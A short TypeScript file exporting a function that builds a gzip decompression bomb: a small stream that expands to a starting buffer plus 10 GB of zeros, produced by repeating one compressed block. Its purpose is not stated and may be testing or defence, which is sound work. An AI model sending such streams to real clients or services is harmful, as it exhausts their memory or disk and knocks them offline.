import zlib from 'node:zlib';

/** A gzip stream of `start` and 10 GB of zeros, made of one block repeated 10,000 times. */
export function createBomb(start: Buffer): Buffer {
  const flush = zlib.constants.Z_FULL_FLUSH;
  const block = zlib.deflateRawSync(Buffer.alloc(1_000_000), { finishFlush: flush });
  const head = zlib.deflateRawSync(start, { finishFlush: flush });
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  return Buffer.concat([header, head, ...Array.from({ length: 10_000 }, () => block)]);
}
